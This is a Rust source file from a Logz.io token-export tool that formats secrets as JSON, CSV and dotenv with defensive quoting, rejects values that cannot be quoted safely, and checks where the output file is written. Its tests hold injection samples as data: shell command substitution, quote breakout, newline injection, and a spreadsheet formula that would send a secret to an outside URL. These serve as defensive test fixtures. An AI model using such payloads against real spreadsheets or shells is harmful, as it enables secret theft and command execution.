//! Rendering secrets for `export`: JSON, CSV and dotenv. The one place secrets are formatted
//! for another program, so the quoting rules of each format live here.
//!
//! dotenv files are read by shells (`. ./tokens.env`, `set -a`) as well as by dotenv libraries,
//! so each value is single-quoted: inside single quotes a shell and the common dotenv readers
//! (docker compose, python-dotenv, Node's dotenv) take every character literally, `$(...)` and
//! backquotes included. What single quotes cannot hold safely — a `'`, a `\`, a line break or
//! any other control character — is refused rather than escaped: no escaping is read the same
//! way by all of them, and a real token never holds such characters. A variable is named
//! `LOGZIO_TOKEN_<ACCOUNT>_<NAME>`, the name upper-cased with anything but ASCII letters and
//! digits made `_`; two token names of one account that give the same variable (`ci-deploy`,
//! `ci_deploy`, `CI.Deploy`) are refused, naming both, rather than set one variable twice.
//!
//! CSV is opened by spreadsheets, which run a cell that begins with `=`, `+`, `-`, `@`, a tab
//! or a carriage return as a formula (one that fetches a URL can send the secret in the next
//! cell away). Following OWASP's rule, such a token name is written with a `'` before it (a
//! spreadsheet shows the name without it; a program reading the CSV sees the `'`). A secret
//! cannot be changed that way, so a secret that begins like a formula is refused (a real
//! token is a UUID, which never does).
//!
//! JSON is also what `import --from` reads back: each row carries, under `superseded`, the
//! tokens its name replaced (recreated or rotated) with what the results and secrets files know
//! of them, so an export imported into a fresh state keeps them exactly. CSV and dotenv hold
//! the current tokens only (a second row or variable for a name would pass for the current one).

use serde::Deserialize;
use zeroize::Zeroizing;

use super::{SupersededSecret, SupersededToken, TokenStatus};
use crate::key::TokenKey;
use crate::secret::Secret;

/// The export formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    /// `[{"kind", "account_id", "account_name"?, "token_name", "token_id", "token"}]`.
    Json,
    /// `account_id,token_name,token_id,token,kind` with a header line (`kind`: `api_token`, or
    /// `shipping_token` for a created sub account's log shipping token, without name or id).
    Csv,
    /// `LOGZIO_TOKEN_<ACCOUNT>_<NAME>='secret'` lines.
    Dotenv,
}

/// One exported token.
#[derive(Debug)]
pub struct Row<'a> {
    /// Which token.
    pub key: TokenKey,
    /// The account's name, for accounts given by name in the manifest.
    pub account_name: Option<String>,
    /// The token's id.
    pub token_id: i64,
    /// The secret.
    pub token: &'a Secret,
    /// The tokens this name replaced (JSON only), oldest first.
    pub superseded: Vec<Replaced<'a>>,
    /// What kind of secret it is.
    pub kind: Kind,
}

/// The kind of an exported secret: the `kind` column.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A sub account's API token (the default).
    ApiToken,
    /// A created sub account's log shipping token (no token name or id).
    ShippingToken,
}

impl Kind {
    /// As the export writes it.
    pub fn as_str(self) -> &'static str {
        match self {
            Kind::ApiToken => "api_token",
            Kind::ShippingToken => "shipping_token",
        }
    }
}

/// A token a row's name replaced: what the results file records of it, and its secret where
/// one is kept (at least one of the two).
#[derive(Debug, Clone, Copy)]
pub struct Replaced<'a> {
    /// The token's id.
    pub token_id: i64,
    /// The results file's record (id of its successor, creation time, what verify saw).
    pub record: Option<&'a SupersededToken>,
    /// The secrets file's record (secret and note).
    pub secret: Option<&'a SupersededSecret>,
}

/// The replaced tokens of `key`, from the results and secrets files, matched by id, in the
/// order the results file lists them (then secrets it does not list).
pub fn replaced<'a>(
    key: &TokenKey,
    records: &'a [SupersededToken],
    secrets: &'a [SupersededSecret],
) -> Vec<Replaced<'a>> {
    let mine = |account_id: u32, name: &str| account_id == key.account_id && name == key.token_name;
    let secrets: Vec<&SupersededSecret> = secrets
        .iter()
        .filter(|s| mine(s.account_id, &s.token_name))
        .collect();
    let mut out: Vec<Replaced<'a>> = records
        .iter()
        .filter(|r| mine(r.account_id, &r.token_name))
        .map(|r| Replaced {
            token_id: r.token_id,
            record: Some(r),
            secret: secrets.iter().copied().find(|s| s.token_id == r.token_id),
        })
        .collect();
    for s in secrets {
        // Two kept secrets under one id (a duplicate id) are both exported.
        if !out
            .iter()
            .any(|o| o.secret.is_some_and(|x| std::ptr::eq(x, s)))
        {
            out.push(Replaced {
                token_id: s.token_id,
                record: None,
                secret: Some(s),
            });
        }
    }
    out
}

/// One row of a JSON export, as `import --from` reads it.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExportedToken {
    /// The account id.
    pub account_id: u32,
    /// The account's name, for accounts given by name in the manifest.
    #[serde(default)]
    pub account_name: Option<String>,
    /// The token name.
    pub token_name: String,
    /// The token's id.
    pub token_id: i64,
    /// The secret.
    pub token: Secret,
    /// The tokens this name replaced.
    #[serde(default)]
    pub superseded: Vec<ExportedReplaced>,
    /// `api_token` (also when absent) or `shipping_token`.
    #[serde(default)]
    pub kind: Option<String>,
}

impl ExportedToken {
    /// Whether the row is an API token (what `import` reads), not a shipping token.
    pub fn is_api_token(&self) -> bool {
        self.kind.as_deref().is_none_or(|k| k == "api_token")
    }
}

/// A replaced token in a JSON export.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExportedReplaced {
    /// The token's id.
    pub token_id: i64,
    /// The id of the token that replaced it (with the results file's record).
    #[serde(default)]
    pub replaced_by: Option<i64>,
    /// When Logz.io created it.
    #[serde(default)]
    pub created_at: Option<String>,
    /// What verify last saw of it.
    #[serde(default)]
    pub status: Option<TokenStatus>,
    /// When verify last probed it.
    #[serde(default)]
    pub checked_at: Option<String>,
    /// Its secret, where one was kept.
    #[serde(default)]
    pub token: Option<Secret>,
    /// Why the secrets file kept it aside.
    #[serde(default)]
    pub note: Option<String>,
}

/// A JSON export that cannot be read back.
#[derive(Debug, thiserror::Error)]
#[error(
    "{path}:{line}:{column}: not a JSON export of logzio-tokens ({what})\n  = help: pass a file written by `logzio-tokens export --format json`"
)]
pub struct ParseError {
    /// The file.
    pub path: String,
    /// Where (1-based).
    pub line: usize,
    /// Where (1-based).
    pub column: usize,
    /// What kind of problem (never a value from the file: it holds secrets).
    pub what: &'static str,
}

/// Reads a JSON export back. Errors say where and what kind of problem, never a value.
pub fn parse_json(path: &std::path::Path, bytes: &[u8]) -> Result<Vec<ExportedToken>, ParseError> {
    serde_json::from_slice(bytes).map_err(|e| ParseError {
        path: path.display().to_string(),
        line: e.line(),
        column: e.column(),
        what: match e.classify() {
            serde_json::error::Category::Io => "it could not be read",
            serde_json::error::Category::Syntax => "a JSON syntax error",
            serde_json::error::Category::Eof => "it ends too early",
            serde_json::error::Category::Data => {
                "a field is missing, unknown, repeated or of the wrong type"
            }
        },
    })
}

/// What cannot be written in the asked format.
#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    /// A secret that cannot be written safely as dotenv.
    #[error(
        "the secret of {key} cannot be written safely as dotenv: {why}\n  = help: export it as --format json or csv, which quote every character"
    )]
    Dotenv {
        /// Which token.
        key: TokenKey,
        /// What is in the way (never the secret itself).
        why: &'static str,
    },
    /// A secret that a spreadsheet would read as a formula; unlike a name, it cannot be
    /// neutralised (a `'` before it would change the secret).
    #[error(
        "the secret of {key} begins with a character that makes a spreadsheet cell a formula (= + - @, a tab or a carriage return), so it is not written as CSV\n  = help: export it as --format json"
    )]
    CsvFormula {
        /// Which token.
        key: TokenKey,
    },
    /// Two tokens of one account whose names map to one dotenv variable name: the file would
    /// set that variable twice, and a reader keeps one secret or the other.
    #[error(
        "tokens {first:?} and {second:?} of account {account_id} would both be exported as {variable}\n  = help: dotenv variable names keep only letters and digits (upper-cased), so these names cannot be told apart; rename one of the tokens in the manifest, or export as --format json or csv, which keep names as they are"
    )]
    DotenvCollision {
        /// The account.
        account_id: u32,
        /// The name exported first.
        first: String,
        /// The name that maps to the same variable.
        second: String,
        /// The variable both map to.
        variable: String,
    },
}

/// Checks the place an export is to be written (`--out`), before anything is rendered: not
/// through a symlink, and not in a directory that another user can write without the sticky
/// bit (nor under one: they could swap the file, or the directory, for theirs). The write
/// itself then creates the file 0600 and never follows a link.
// The export target is the user's file, not the state: outside the seams rule (main carries
// this function since the seams and ledger branches met; the allow keeps clippy green).
#[allow(clippy::disallowed_methods)]
pub fn check_target(path: &std::path::Path) -> Result<(), super::StateError> {
    use crate::fs::Fs;
    // The user's --out, on the real filesystem (an export is not part of the simulated state).
    let fs = crate::fs::RealFs;
    let unsafe_ = |path: &std::path::Path, reason: String| super::StateError::Unsafe {
        path: path.to_path_buf(),
        reason,
    };
    if fs.symlink_metadata(path).is_ok_and(|m| m.is_symlink()) {
        return Err(unsafe_(
            path,
            "it is a symbolic link, which is never written through; pass --out the path of a regular file (or a new one)".into(),
        ));
    }
    // A directory that does not exist is reported by the write.
    let Ok(dir) = fs.canonicalize(crate::fs::atomic::parent_dir(path)) else {
        return Ok(());
    };
    let me = crate::fs::trust::euid();
    let my_group = rustix::process::getegid().as_raw();
    for d in dir.ancestors() {
        let Ok(meta) = fs.metadata(d) else {
            continue;
        };
        let mode = meta.mode;
        let sticky = mode & 0o1000 != 0;
        let d_ = d.display();
        let why = if crate::fs::trust::owned_by_another(meta.uid, me) {
            Some(format!(
                "directory {d_} belongs to another user (uid {})",
                meta.uid
            ))
        } else if mode & 0o002 != 0 && !sticky {
            Some(format!(
                "directory {d_} has mode {mode:04o}: every user can write it and it is not sticky"
            ))
        } else if mode & 0o020 != 0 && !sticky && meta.gid != my_group {
            Some(format!(
                "directory {d_} has mode {mode:04o}: the users of group {} can write it and it is not sticky",
                meta.gid
            ))
        } else {
            None
        };
        if let Some(why) = why {
            return Err(unsafe_(
                path,
                format!(
                    "{why}, so they could replace the file with theirs once it is written; pass --out a path in a directory only you can write"
                ),
            ));
        }
    }
    Ok(())
}

/// Renders `rows`; the text holds secrets and is zeroed when dropped.
pub fn render(format: Format, rows: &[Row<'_>]) -> Result<Zeroizing<String>, ExportError> {
    let mut t = Zeroizing::new(String::new());
    match format {
        Format::Json => {
            let v: Vec<serde_json::Value> = rows
                .iter()
                .map(|r| {
                    let mut o = serde_json::json!({
                        "kind": r.kind.as_str(),
                        "account_id": r.key.account_id,
                        "token_name": r.key.token_name,
                        "token_id": r.token_id,
                        "token": r.token.expose(),
                    });
                    if let Some(obj) = o.as_object_mut() {
                        if let Some(n) = &r.account_name {
                            obj.insert("account_name".into(), n.clone().into());
                        }
                        if !r.superseded.is_empty() {
                            let list = r.superseded.iter().map(replaced_json).collect();
                            obj.insert("superseded".into(), serde_json::Value::Array(list));
                        }
                    }
                    o
                })
                .collect();
            t.push_str(&serde_json::to_string_pretty(&v).unwrap_or_default());
            t.push('\n');
        }
        Format::Csv => {
            t.push_str("account_id,token_name,token_id,token,kind\n");
            for r in rows {
                if starts_formula(r.token.expose()) {
                    return Err(ExportError::CsvFormula { key: r.key.clone() });
                }
                let id = match r.kind {
                    Kind::ApiToken => r.token_id.to_string(),
                    Kind::ShippingToken => String::new(),
                };
                t.push_str(&format!(
                    "{},{},{id},{},{}\n",
                    r.key.account_id,
                    csv_field(&csv_text(&r.key.token_name)),
                    csv_field(r.token.expose()),
                    r.kind.as_str()
                ));
            }
        }
        Format::Dotenv => {
            let mut names: std::collections::HashMap<String, &TokenKey> =
                std::collections::HashMap::new();
            for r in rows {
                let value = r.token.expose();
                if let Some(why) = dotenv_refusal(value) {
                    return Err(ExportError::Dotenv {
                        key: r.key.clone(),
                        why,
                    });
                }
                let variable = match r.kind {
                    Kind::ApiToken => dotenv_name(&r.key),
                    Kind::ShippingToken => format!("LOGZIO_SHIPPING_TOKEN_{}", r.key.account_id),
                };
                if let Some(first) = names.get(&variable) {
                    return Err(ExportError::DotenvCollision {
                        account_id: r.key.account_id,
                        first: first.token_name.clone(),
                        second: r.key.token_name.clone(),
                        variable,
                    });
                }
                t.push_str(&format!("{variable}='{value}'\n"));
                names.insert(variable, &r.key);
            }
        }
    }
    Ok(t)
}

/// A replaced token as JSON: every field either file knows, none it does not.
fn replaced_json(r: &Replaced<'_>) -> serde_json::Value {
    let mut o = serde_json::Map::new();
    o.insert("token_id".into(), r.token_id.into());
    if let Some(rec) = r.record {
        o.insert("replaced_by".into(), rec.replaced_by.into());
        o.insert("created_at".into(), rec.created_at.clone().into());
        if let Some(status) = rec.status {
            o.insert("status".into(), status.as_str().into());
        }
        if let Some(at) = &rec.checked_at {
            o.insert("checked_at".into(), at.clone().into());
        }
    }
    if let Some(sec) = r.secret {
        o.insert("token".into(), sec.token.expose().into());
        o.insert("note".into(), sec.note.clone().into());
    }
    serde_json::Value::Object(o)
}

/// Why a value cannot go between single quotes in a dotenv file, if it cannot.
fn dotenv_refusal(value: &str) -> Option<&'static str> {
    if value.contains(['\n', '\r']) {
        Some("it holds a line break")
    } else if value.chars().any(char::is_control) {
        Some("it holds a control character")
    } else if value.contains('\'') {
        Some("it holds a single quote")
    } else if value.contains('\\') {
        Some("it holds a backslash")
    } else {
        None
    }
}

/// Whether a spreadsheet (Excel, LibreOffice, Google Sheets) reads a cell beginning like `s`
/// as a formula: OWASP's list, `=`, `+`, `-`, `@`, a tab or a carriage return.
fn starts_formula(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// A text cell a spreadsheet shows as text: one that would be read as a formula gets a `'`
/// before it (OWASP's CSV-injection rule; a spreadsheet shows the text without the `'`).
fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
    if starts_formula(s) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

fn csv_field(s: &str) -> String {
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_owned()
    }
}

/// `LOGZIO_TOKEN_<ACCOUNT>_<NAME>` with the name upper-cased and anything else than
/// letters and digits turned into `_`.
pub fn dotenv_name(k: &TokenKey) -> String {
    let name: String = k
        .token_name
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_uppercase()
            } else {
                '_'
            }
        })
        .collect();
    format!("LOGZIO_TOKEN_{}_{name}", k.account_id)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::disallowed_methods)] // tests set up real files, clocks and seeds
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn row<'a>(name: &str, token: &'a Secret) -> Row<'a> {
        Row {
            key: TokenKey {
                account_id: 7,
                token_name: name.into(),
            },
            account_name: None,
            token_id: 1,
            token,
            superseded: Vec::new(),
            kind: Kind::ApiToken,
        }
    }

    #[test]
    fn dotenv_values_are_single_quoted_so_a_shell_takes_them_literally() {
        let s = Secret::new("a$(touch pwned)`id`\"b$HOME");
        let text = render(Format::Dotenv, &[row("ci-x", &s)]).unwrap();
        assert_eq!(
            &*text,
            "LOGZIO_TOKEN_7_CI_X='a$(touch pwned)`id`\"b$HOME'\n"
        );
        // What a shell makes of it: exactly the secret, nothing run.
        let dir = tempfile::tempdir().unwrap();
        let f = dir.path().join("t.env");
        std::fs::write(&f, text.as_bytes()).unwrap();
        let out = std::process::Command::new("sh")
            .current_dir(dir.path())
            .arg("-c")
            .arg(r#". ./t.env; printf %s "$LOGZIO_TOKEN_7_CI_X""#)
            .output()
            .unwrap();
        assert_eq!(String::from_utf8(out.stdout).unwrap(), s.expose());
        assert!(!dir.path().join("pwned").exists());
    }

    #[test]
    fn dotenv_refuses_what_quotes_cannot_hold_and_never_shows_it() {
        for (value, why) in [
            ("abc\nLOGZIO_X=evil", "line break"),
            ("abc'; touch pwned; '", "single quote"),
            ("abc\\", "backslash"),
            ("abc\u{1b}[2J", "control character"),
        ] {
            let s = Secret::new(value);
            let err = render(Format::Dotenv, &[row("ci", &s)]).unwrap_err();
            let msg = err.to_string();
            assert!(msg.contains(why), "{msg}");
            assert!(!msg.contains("abc"), "{msg}");
            // JSON and CSV quote anything.
            assert!(render(Format::Json, &[row("ci", &s)]).is_ok());
        }
    }

    /// OWASP's CSV-injection rule: a name that a spreadsheet would run as a formula (next to
    /// the secret's cell, `=IMAGE("https://x/?"&D2)` sends it away) is made text with a `'`; a
    /// secret cannot be changed, so one that begins like a formula is refused.
    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
        let s = Secret::new("c498fbc3-a3ac-4676-ad09-689854b5cbbd");
        let names = [
            "=IMAGE(\"https://x/?\"&D2)",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ];
        let rows: Vec<Row<'_>> = names.iter().map(|n| row(n, &s)).collect();
        let text = render(Format::Csv, &rows).unwrap();
        let cells: Vec<&str> = text
            .lines()
            .skip(1)
            .map(|l| l.split(',').nth(1).unwrap())
            .collect();
        assert_eq!(
            cells,
            [
                "\"'=IMAGE(\"\"https://x/?\"\"&D2)\"",
                "'+1",
                "'-2+3",
                "'@SUM(A1)",
                "'\tx",
                // A carriage return makes the cell quoted as well.
                "\"'\rx\"",
            ]
        );
        // Names that begin otherwise are written as they are.
        let text = render(Format::Csv, &[row("ci=1", &s)]).unwrap();
        assert!(text.contains(",ci=1,"), "{}", &*text);
        for secret in ["=HYPERLINK(\"x\")", "+x", "-x", "@x", "\tx", "\rx"] {
            let bad = Secret::new(secret);
            let e = render(Format::Csv, &[row("ci", &bad)])
                .unwrap_err()
                .to_string();
            assert!(e.contains("formula") && !e.contains(secret), "{e}");
        }
    }

    /// Names that differ only in what a variable name cannot hold would set one variable
    /// twice with different secrets: refused, naming both.
    #[test]
    fn dotenv_refuses_two_names_that_map_to_one_variable() {
        let (a, b) = (Secret::new("secret-a"), Secret::new("secret-b"));
        for (x, y) in [
            ("ci-deploy", "ci_deploy"),
            ("ci_deploy", "CI.Deploy"),
            ("cié", "ci€"),
        ] {
            let e = render(Format::Dotenv, &[row(x, &a), row(y, &b)]).unwrap_err();
            let msg = e.to_string();
            assert!(matches!(e, ExportError::DotenvCollision { .. }), "{msg}");
            assert!(
                msg.contains(&format!("{x:?}")) && msg.contains(&format!("{y:?}")),
                "{msg}"
            );
            assert!(!msg.contains("secret-"), "{msg}");
        }
        // One name in two accounts is two variables.
        let mut other = row("ci-deploy", &b);
        other.key.account_id = 8;
        assert!(render(Format::Dotenv, &[row("ci-deploy", &a), other]).is_ok());
    }

    #[test]
    fn csv_quotes_what_needs_it() {
        let s = Secret::new("x,\"y\"");
        let text = render(Format::Csv, &[row("a", &s)]).unwrap();
        assert_eq!(
            &*text,
            "account_id,token_name,token_id,token,kind\n7,a,1,\"x,\"\"y\"\"\",api_token\n"
        );
    }

    #[test]
    fn json_carries_the_replaced_tokens_and_reads_back_exactly() {
        let key = TokenKey {
            account_id: 7,
            token_name: "ci".into(),
        };
        let other = TokenKey {
            account_id: 7,
            token_name: "other".into(),
        };
        let old = |id, replaced_by, key: &TokenKey| SupersededToken {
            account_id: key.account_id,
            token_name: key.token_name.clone(),
            token_id: id,
            created_at: "2026-01-01T00:00:00Z".into(),
            replaced_by,
            status: (id == 2).then_some(TokenStatus::Revoked),
            checked_at: (id == 2).then(|| "2026-01-02T00:00:00Z".to_owned()),
        };
        let kept = |id, secret: &str, key: &TokenKey| SupersededSecret {
            account_id: key.account_id,
            token_name: key.token_name.clone(),
            token_id: id,
            token: Secret::new(secret),
            note: format!("replaced by token {}", id + 1),
        };
        // 2 and 3 replaced (2 with no kept secret), 9 kept aside without a record, and one
        // of another name that is not this row's.
        let records = [old(2, 3, &key), old(3, 4, &key), old(5, 6, &other)];
        let secrets = [
            kept(3, "s3", &key),
            kept(9, "s9", &key),
            kept(5, "s5", &other),
        ];
        let list = replaced(&key, &records, &secrets);
        let ids: Vec<_> = list.iter().map(|r| r.token_id).collect();
        assert_eq!(ids, [2, 3, 9]);
        let current = Secret::new("s4");
        let mut r = row("ci", &current);
        r.token_id = 4;
        r.superseded = list;
        let text = render(Format::Json, &[r]).unwrap();
        let back = parse_json(std::path::Path::new("e.json"), text.as_bytes()).unwrap();
        assert_eq!(back.len(), 1);
        let b = &back[0].superseded;
        assert_eq!(b.len(), 3);
        assert_eq!(
            (
                b[0].token_id,
                b[0].replaced_by,
                b[0].status,
                b[0].token.is_none()
            ),
            (2, Some(3), Some(TokenStatus::Revoked), true)
        );
        assert_eq!(b[0].checked_at.as_deref(), Some("2026-01-02T00:00:00Z"));
        assert_eq!(b[1].token.as_ref().map(Secret::expose), Some("s3"));
        assert_eq!(b[1].note.as_deref(), Some("replaced by token 4"));
        assert_eq!((b[2].token_id, b[2].replaced_by), (9, None));
        assert_eq!(b[2].token.as_ref().map(Secret::expose), Some("s9"));
        // Nothing replaced: the row is as it always was.
        let plain = render(Format::Json, &[row("ci", &current)]).unwrap();
        assert!(!plain.contains("superseded"), "{}", &*plain);
    }

    #[test]
    fn an_export_that_cannot_be_read_back_is_named_without_its_values() {
        let path = std::path::Path::new("e.json");
        for text in [
            r#"[{"account_id": 7, "token_name": "ci", "token_id": "secret-abc", "token": "x"}]"#,
            r#"[{"account_id": 7, "token_name": "ci", "token_id": 1, "token": "secret-abc", "extra": 1}]"#,
            r#"[{"account_id": 7, "token_name": "ci", "token_id": 1, "token": "secret-abc""#,
            r#"{"secret-abc": 1}"#,
        ] {
            let e = parse_json(path, text.as_bytes()).unwrap_err().to_string();
            assert!(e.starts_with("e.json:1:"), "{e}");
            assert!(!e.contains("secret-abc"), "{e}");
        }
    }

    /// `--out` is never written through a symlink, nor in or under a directory another user
    /// could write (unless it is sticky): they could swap the file for theirs.
    #[test]
    fn an_export_goes_only_where_no_other_user_can_swap_it() {
        use std::os::unix::fs::{PermissionsExt, chown, symlink};
        use std::path::Path;
        let set = |p: &Path, mode| {
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
        };
        let refused = |p: &Path| match check_target(p) {
            Err(crate::state::StateError::Unsafe { path, reason }) => {
                assert_eq!(path, p);
                reason
            }
            other => panic!("{}: {other:?}", p.display()),
        };
        let tmp = tempfile::tempdir().unwrap();
        let base = std::fs::canonicalize(tmp.path()).unwrap();
        set(&base, 0o700);
        let dir = base.join("out");
        std::fs::create_dir(&dir).unwrap();
        set(&dir, 0o700);
        let file = dir.join("e.json");
        check_target(&file).unwrap();
        // A directory that does not exist: the write reports it.
        check_target(&base.join("missing/e.json")).unwrap();

        symlink("e.json", dir.join("link.json")).unwrap();
        let why = refused(&dir.join("link.json"));
        assert!(why.starts_with("it is a symbolic link"), "{why}");

        set(&dir, 0o777);
        let why = refused(&file);
        let every = format!(
            "directory {} has mode 0777: every user can write it",
            dir.display()
        );
        assert!(why.starts_with(&every), "{why}");
        set(&dir, 0o1777);
        check_target(&file).unwrap();
        // Under such a directory: the same.
        set(&dir, 0o700);
        set(&base, 0o777);
        let why = refused(&file);
        set(&base, 0o700);
        assert!(
            why.starts_with(&format!("directory {} has mode 0777", base.display())),
            "{why}"
        );

        // Group-writable: fine for our own group, refused for another's unless sticky.
        let my_group = rustix::process::getegid().as_raw();
        let other = my_group + 4321;
        set(&dir, 0o770);
        check_target(&file).unwrap();
        chown(&dir, None, Some(other)).unwrap();
        let why = refused(&file);
        assert!(
            why.contains(&format!(
                "has mode 0770: the users of group {other} can write it"
            )),
            "{why}"
        );
        set(&dir, 0o1770);
        check_target(&file).unwrap();
        set(&dir, 0o750);
        check_target(&file).unwrap();
        // Another user's directory: refused (root's is trusted, as ssh does).
        if crate::fs::trust::euid() == 0 {
            chown(&dir, Some(4321), None).unwrap();
            let why = refused(&file);
            assert!(why.contains("belongs to another user (uid 4321)"), "{why}");
        }
    }
}
